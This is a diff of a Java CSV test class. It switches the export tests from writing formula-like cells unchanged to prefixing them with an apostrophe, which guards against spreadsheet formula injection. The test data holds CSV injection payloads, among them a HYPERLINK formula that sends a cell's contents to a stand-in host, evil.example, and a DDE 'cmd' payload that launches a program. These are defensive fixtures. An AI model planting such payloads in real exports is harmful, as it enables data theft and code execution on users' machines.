@@ -85,22 +85,29 @@ class CsvTest {
         }
         StringBuilder text = new StringBuilder();
         rows.forEach(row -> text.append(Csv.line(row)));
-        assertThat(Rfc4180.parse(text.toString())).isEqualTo(rows);
+        assertThat(Rfc4180.parse(text.toString())).isEqualTo(rows.stream()
+                .map(row -> row.stream().map(CsvTest::asASpreadsheetSafeCell).toList()).toList());
+    }
+
+    /** The documented rule: a cell a spreadsheet would take for a formula is read back with a leading apostrophe. */
+    private static String asASpreadsheetSafeCell(String value) {
+        return !value.isEmpty() && "=+-@\t\r".indexOf(value.charAt(0)) >= 0 ? "'" + value : value;
     }
 
     /**
-     * Csv does nothing against spreadsheet formula injection: a cell that starts with =, +, - or @ (or a
-     * tab or CR) is written as it is, so a spreadsheet that opens the export may evaluate it. This pins
-     * what it does today (the export is a faithful copy of the audit trail) so that a change is deliberate;
-     * whether exported values should be neutralised is an open question, reported with these tests.
+     * Spreadsheet formula injection: a cell that starts with =, +, - or @ (or a tab or CR) would be
+     * evaluated by a spreadsheet that opens the export; it gets a leading apostrophe, which shows the
+     * text instead. The rest of the cell is unchanged and quoted as any other.
      */
     @Test
-    void cellsThatASpreadsheetWouldTakeForFormulasAreWrittenUnchanged() {
+    void cellsThatASpreadsheetWouldTakeForFormulasGetALeadingApostrophe() {
         List<String> formulas = List.of("=HYPERLINK(\"http://evil.example/?x=\"&A1)", "+1+1", "-2+3", "@SUM(A1:A9)",
-                "\t=1+1", "=cmd|' /C calc'!A0");
+                "\t=1+1", "=cmd|' /C calc'!A0", "a=1", "");
         String line = Csv.line(formulas);
-        assertThat(line).startsWith("\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1)\",+1+1,-2+3,@SUM(A1:A9),\t=1+1,=cmd|' /C calc'!A0");
-        assertThat(Rfc4180.parse(line)).containsExactly(formulas);
+        assertThat(line).isEqualTo("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1)\",'+1+1,'-2+3,'@SUM(A1:A9),"
+                + "'\t=1+1,'=cmd|' /C calc'!A0,a=1,\r\n");
+        assertThat(Rfc4180.parse(line)).containsExactly(List.of("'=HYPERLINK(\"http://evil.example/?x=\"&A1)", "'+1+1",
+                "'-2+3", "'@SUM(A1:A9)", "'\t=1+1", "'=cmd|' /C calc'!A0", "a=1", ""));
     }
 
     @Test
